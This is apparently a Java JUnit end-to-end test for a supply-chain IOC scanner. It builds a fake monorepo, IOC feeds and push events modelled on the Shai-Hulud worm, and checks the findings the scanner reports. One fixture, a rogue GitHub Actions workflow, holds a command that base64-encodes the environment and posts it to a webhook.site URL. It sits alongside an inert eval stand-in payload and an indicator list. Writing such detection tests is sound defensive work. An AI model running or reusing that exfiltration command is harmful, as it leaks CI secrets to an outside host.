package io.iocstream.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.entry;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.iocstream.fetch.FetchStrategy;
import io.iocstream.match.Finding;
import io.iocstream.pipeline.RunSummary;
import io.iocstream.testing.FindingsSchema;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * One replay over a world that holds every dependency-file format and every indicator kind, asserting the exact
 * findings. The monorepo's lockfiles are the real fixtures of src/test/resources/lockfiles; its IOC feeds list one
 * real triple of each fixture (from EXPECTED.tsv) in the contract's CSV and TXT forms; the workflow, the script
 * and the push payloads are constructed for this test after the published Shai-Hulud indicators, and so is one
 * OSV entry (TEST-WITHDRAWN-1, on another fixture triple) that {@code iocs-later/} withdraws, and one composer.lock
 * whose package's tag is written {@code v5.0.2} while the feed names {@code 5.0.2}.
 */
class EveryFormatEndToEndTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Path LOCKFILES = Path.of("src/test/resources/lockfiles");
    private static final String REPO = "acme/monorepo";
    private static final String C1 = "1111111111111111111111111111111111111111";
    private static final String C2 = "2222222222222222222222222222222222222222";
    private static final String C3 = "3333333333333333333333333333333333333333";

    private static final String WORKFLOW = """
            name: Discussion Create
            on: discussion
            jobs:
              process:
                runs-on: [self-hosted, SHA1HULUD]
                steps:
                  - run: curl -s -d "$(env | base64)" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
            """;
    private static final String BUNDLE = "/* constructed stand-in for a worm payload */ eval(atob('Y29uc29sZQ=='));\n";
    /** Constructed: Composer writes a tag's version with its v, advisories without it. */
    private static final String TAGGED_LOCK = """
            {"packages": [{"name": "acme/tagged-release", "version": "v5.0.2", "type": "library"}],
             "packages-dev": []}
            """;
    private static final String README = """
            # monorepo
            Models are served from https://models.litellm.cloud/ (near misses: notwebhook.site, webhook.site.example.com).
            """;

    @TempDir
    static Path dir;
    static List<String[]> expectedRows = new ArrayList<>();
    static List<String[]> planted = new ArrayList<>();
    static String[] later;
    static String[] withdrawn;
    static Path findingsFile;
    static List<Finding> findings = new ArrayList<>();
    static RunSummary summary;

    @BeforeAll
    static void replay() throws Exception {
        Path world = dir.resolve("world");
        writeWorld(world);
        Path out = dir.resolve("findings.jsonl");
        findingsFile = out;
        summary = ReplayRun.run(ReplayCommand.options(World.open(world), out, dir.resolve("summary.json"), 2,
                FetchStrategy.ADAPTIVE, 0, 0, true), ReplayRun.Listener.SILENT);
        FindingsSchema.assertValidFile(out);
        findings.addAll(ReplayOutput.findings(out));
    }

    @Test
    void everyFormatAndEveryIndicatorKindGivesExactlyItsFindings() {
        // a planted triple is found in every fixture that EXPECTED.tsv says holds it (go.mod's pin is in go.sum too)
        List<String> expected = new ArrayList<>();
        for (String[] row : expectedRows) {
            if (planted.stream().anyMatch(triple -> sameTriple(row, triple))) {
                expected.add(line("open", "baseline", row[0], "package", row[1], row[2], row[3], null));
            }
            if (sameTriple(row, later)) {
                expected.add(line("open", "retro_hunt", row[0], "package", row[1], row[2], row[3], null));
            }
            if (sameTriple(row, withdrawn)) {
                expected.add(line("open", "baseline", row[0], "package", row[1], row[2], row[3], null));
                expected.add(line("resolved", "retro_hunt", row[0], "package", row[1], row[2], row[3], null));
            }
        }
        // the version as the file writes it, though the feed names it without the v
        expected.add(line("open", "baseline", "tagged/composer.lock", "package", "Packagist", "acme/tagged-release",
                "v5.0.2", null));
        expected.add(line("open", "push", ".github/workflows/discussion.yaml", "workflow", null, null, null,
                "SHA1HULUD"));
        expected.add(line("open", "push", ".github/workflows/discussion.yaml", "domain", null, null, null,
                "webhook.site"));
        expected.add(line("open", "push", "scripts/bundle.js", "file_hash", null, null, null, sha256(BUNDLE)));
        expected.add(line("open", "push", "scripts/bundle.js", "file_name", null, null, null, "bundle.js"));
        expected.add(line("resolved", "push", "scripts/bundle.js", "file_hash", null, null, null, sha256(BUNDLE)));
        expected.add(line("resolved", "push", "scripts/bundle.js", "file_name", null, null, null, "bundle.js"));
        expected.add(line("open", "retro_hunt", "README.md", "domain", null, null, null, "litellm.cloud"));

        assertThat(findings.stream().map(f -> line(f.status(), f.trigger(), f.path(), f.kind(), f.ecosystem(),
                f.packageName(), f.version(), f.indicator())).toList())
                .containsExactlyInAnyOrderElementsOf(expected);
        assertThat(planted).extracting(triple -> triple[1]).contains("npm", "PyPI", "RubyGems", "Packagist", "Go",
                "crates.io", "Maven", "NuGet");
    }

    @Test
    void aDependencyFindingsJsonLineSaysWhereAndHowTheFileNamesIt() throws IOException {
        // the planted (first) triple of each JavaScript and SBOM fixture, as its parser's tests pin it
        Map<String, String> expected = Map.of(
                "bun/bun.lock", "22 null transitive",
                "package-json/package.json", "2 null null",
                "pnpm-v5/pnpm-lock.yaml", "20 runtime direct",
                "pnpm-v9/pnpm-lock.yaml", "20 runtime direct",
                "yarn-berry/yarn.lock", "8 null null",
                "sbom-npm/bom.cdx.json", "68 runtime transitive",
                "sbom-npm/deps.spdx.json", "68 dev direct");
        Map<String, String> actual = new LinkedHashMap<>();
        for (String line : Files.readAllLines(findingsFile)) {
            var json = JSON.readTree(line);
            String path = json.path("path").asText();
            if (json.has("finding_id") && expected.containsKey(path)) {
                assertThat(json.get("html_url").asText()).endsWith("#L" + json.get("line").asInt());
                actual.put(path, json.get("line").asInt() + " " + json.get("scope").asText(null) + " "
                        + json.get("relationship").asText(null));
            }
        }
        assertThat(actual).containsExactlyInAnyOrderEntriesOf(expected);
    }

    @Test
    void findingsOfOneSubjectShareTheirIdAndNothingIsADeadLetter() {
        Map<String, String> idBySubject = new LinkedHashMap<>();
        for (Finding f : findings) {
            String subject = f.path() + " " + f.kind() + " " + f.indicator() + " " + f.packageName();
            assertThat(idBySubject.computeIfAbsent(subject, s -> f.findingId())).isEqualTo(f.findingId());
        }
        assertThat(summary.deadLetters()).isZero();
    }

    @Test
    void findingsOfCargoGoPdmPoetryUvAndMavenFilesCarryTheirLineScopeAndRelationship() throws IOException {
        // read from the JSON lines as written: "line scope relationship" of each open package finding
        Map<String, String> placeOf = new LinkedHashMap<>();
        for (String written : Files.readAllLines(findingsFile)) {
            JsonNode f = JSON.readTree(written);
            if (f.path("kind").asText().equals("package") && f.path("status").asText().equals("open")) {
                placeOf.put(f.path("path").asText() + " " + f.path("package").asText(), f.path("line").asText()
                        + " " + f.path("scope").asText() + " " + f.path("relationship").asText());
            }
        }
        assertThat(placeOf).contains(
                entry("cargo/Cargo.lock aho-corasick", "11 null null"),
                entry("go/go.mod github.com/sirupsen/logrus", "5 null direct"),
                entry("go/go.sum github.com/davecgh/go-spew", "2 null null"),
                entry("maven/pom.xml org.example:abc", "39 runtime direct"),
                entry("pdm/pdm.lock pyroute2", "10 dev null"),
                entry("poetry/poetry.lock async-timeout", "3 optional null"),
                entry("uv/uv.lock emoji", "4 runtime direct"));
    }

    @Test
    void entriesOfAnEcosystemIocstreamDoesNotMatchAreCountedInTheSummary() {
        assertThat(summary.iocEntriesUnsupported()).isEqualTo(Map.of("Debian", 1));
    }

    private static boolean sameTriple(String[] a, String[] b) {
        return a[1].equals(b[1]) && a[2].equals(b[2]) && a[3].equals(b[3]);
    }

    private static String line(String status, String trigger, String path, String kind, String ecosystem,
            String name, String version, String indicator) {
        return String.join(" | ", status, trigger, REPO, path, kind, String.valueOf(ecosystem), String.valueOf(name),
                String.valueOf(version), String.valueOf(indicator));
    }

    /** The world: three commits of one monorepo, its feeds, and three webhook pushes. */
    private static void writeWorld(Path world) throws Exception {
        Map<String, String[]> firstTripleOfEachFile = new LinkedHashMap<>();
        List<String> rows = Files.readAllLines(LOCKFILES.resolve("EXPECTED.tsv"));
        for (String row : rows.subList(1, rows.size())) {
            String[] triple = row.split("\t");
            expectedRows.add(triple);
            if (firstTripleOfEachFile.putIfAbsent(triple[0], triple) != null && later == null
                    && triple[0].startsWith("yarn-v1/")) {
                later = triple;
            } else if (!firstTripleOfEachFile.get(triple[0]).equals(triple) && withdrawn == null
                    && triple[0].startsWith("cargo/")) {
                withdrawn = triple;
            }
        }
        planted.addAll(firstTripleOfEachFile.values());

        Path c1 = world.resolve("repos/" + REPO + "/" + C1);
        try (Stream<Path> files = Files.walk(LOCKFILES)) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                String name = LOCKFILES.relativize(file).toString().replace('\\', '/');
                if (name.contains("/")) {
                    copy(file, c1.resolve(name));
                }
            }
        }
        Files.writeString(c1.resolve("README.md"), README);
        write(c1.resolve("tagged/composer.lock"), TAGGED_LOCK);
        copyTree(c1, world.resolve("repos/" + REPO + "/" + C2));
        write(world.resolve("repos/" + REPO + "/" + C2 + "/.github/workflows/discussion.yaml"), WORKFLOW);
        write(world.resolve("repos/" + REPO + "/" + C2 + "/scripts/bundle.js"), BUNDLE);
        copyTree(c1, world.resolve("repos/" + REPO + "/" + C3));
        write(world.resolve("repos/" + REPO + "/" + C3 + "/.github/workflows/discussion.yaml"), WORKFLOW);

        StringBuilder csv = new StringBuilder("Package,Version\n");
        StringBuilder txt = new StringBuilder("# one triple of each fixture, in the contract's TXT forms\n");
        for (String[] triple : planted) {
            if (triple[1].equals("npm")) {
                csv.append('"').append(triple[2]).append("\",= ").append(triple[3]).append('\n');
            } else {
                txt.append(txtPrefix(triple[1])).append(':').append(triple[2]).append(':').append(triple[3])
                        .append('\n');
            }
        }
        txt.append("# the tagged composer.lock's package, named as advisories name it\n")
                .append("composer:acme/tagged-release:5.0.2\n");
        write(world.resolve("iocs/packages.csv"), csv.toString());
        write(world.resolve("iocs/packages.txt"), txt.toString());
        write(world.resolve("iocs/indicators.csv"), "type,value,id,severity,description\n"
                + "sha256," + sha256(BUNDLE).toUpperCase() + ",IND-1,critical,worm payload\n"
                + "file_name,bundle.js,IND-2,high,worm payload name\n"
                + "file_name,.github/workflows/shai-hulud-workflow.yml,IND-3,critical,\n"
                + "domain,https://webhook.site/,IND-4,high,exfiltration endpoint\n"
                + "workflow,SHA1HULUD,IND-5,critical,rogue runner label\n");
        write(world.resolve("iocs-later/later.txt"), later[2] + "@" + later[3] + "\n");
        write(world.resolve("iocs-later/indicators.csv"), "type,value,id\ndomain,litellm.cloud,MAL-2026-2144\n");
        write(world.resolve("iocs/osv/TEST-WITHDRAWN-1.json"), osv(withdrawn, null));
        // a real entry as a full OSV dump holds it for a distribution too: counted, neither matched nor an error
        ObjectNode debian = (ObjectNode) JSON.readTree(
                Path.of("src/test/resources/ioc/osv/malicious/npm/chalk/MAL-2025-46969.json").toFile());
        ((ObjectNode) debian.get("affected").get(0).get("package")).put("ecosystem", "Debian:12");
        write(world.resolve("iocs/osv/debian/MAL-2025-46969.json"), debian.toString());
        write(world.resolve("iocs-later/osv/TEST-WITHDRAWN-1.json"), osv(withdrawn, "2026-12-01T00:00:00Z"));

        String zero = "0".repeat(40);
        write(world.resolve("events.ndjson"), String.join("\n",
                push(zero, C1, List.of(), List.of()),
                push(C1, C2, List.of(".github/workflows/discussion.yaml", "scripts/bundle.js"), List.of()),
                push(C2, C3, List.of(), List.of("scripts/bundle.js"))) + "\n");
    }

    /** An OSV entry for one version of one package, withdrawn at {@code withdrawnAt} unless that is null. */
    private static String osv(String[] triple, String withdrawnAt) {
        ObjectNode entry = JSON.createObjectNode().put("id", "TEST-WITHDRAWN-1")
                .put("modified", withdrawnAt == null ? "2026-11-30T00:00:00Z" : withdrawnAt);
        if (withdrawnAt != null) {
            entry.put("withdrawn", withdrawnAt);
        }
        ObjectNode affected = entry.putArray("affected").addObject();
        affected.putObject("package").put("ecosystem", triple[1]).put("name", triple[2]);
        affected.putArray("versions").add(triple[3]);
        return entry.toString();
    }

    private static String txtPrefix(String ecosystem) {
        return switch (ecosystem) {
            case "PyPI" -> "pypi";
            case "Go" -> "go";
            case "crates.io" -> "crates";
            case "Packagist" -> "composer";
            case "RubyGems" -> "gem";
            case "Maven" -> "maven";
            case "NuGet" -> "nuget";
            default -> "npm";
        };
    }

    /** A webhook push payload with the fields GitHub sends that the pipeline reads. */
    private static String push(String before, String after, List<String> added, List<String> removed)
            throws IOException {
        ObjectNode push = JSON.createObjectNode();
        push.put("ref", "refs/heads/main").put("before", before).put("after", after)
                .put("created", before.startsWith("0000")).put("deleted", false).put("forced", false);
        push.putObject("repository").put("name", "monorepo").put("full_name", REPO)
                .putObject("owner").put("login", "acme");
        if (!before.startsWith("0000")) {
            ObjectNode commit = push.putArray("commits").addObject().put("id", after);
            added.forEach(commit.putArray("added")::add);
            removed.forEach(commit.putArray("removed")::add);
            commit.putArray("modified");
        } else {
            push.putArray("commits");
        }
        return JSON.writeValueAsString(push);
    }

    private static String sha256(String text) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256")
                    .digest(text.getBytes(StandardCharsets.UTF_8)));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    private static void copyTree(Path from, Path to) throws IOException {
        try (Stream<Path> files = Files.walk(from)) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                copy(file, to.resolve(from.relativize(file).toString()));
            }
        }
    }

    private static void copy(Path from, Path to) throws IOException {
        Files.createDirectories(to.getParent());
        Files.copy(from, to);
    }

    private static void write(Path file, String text) throws IOException {
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }
}
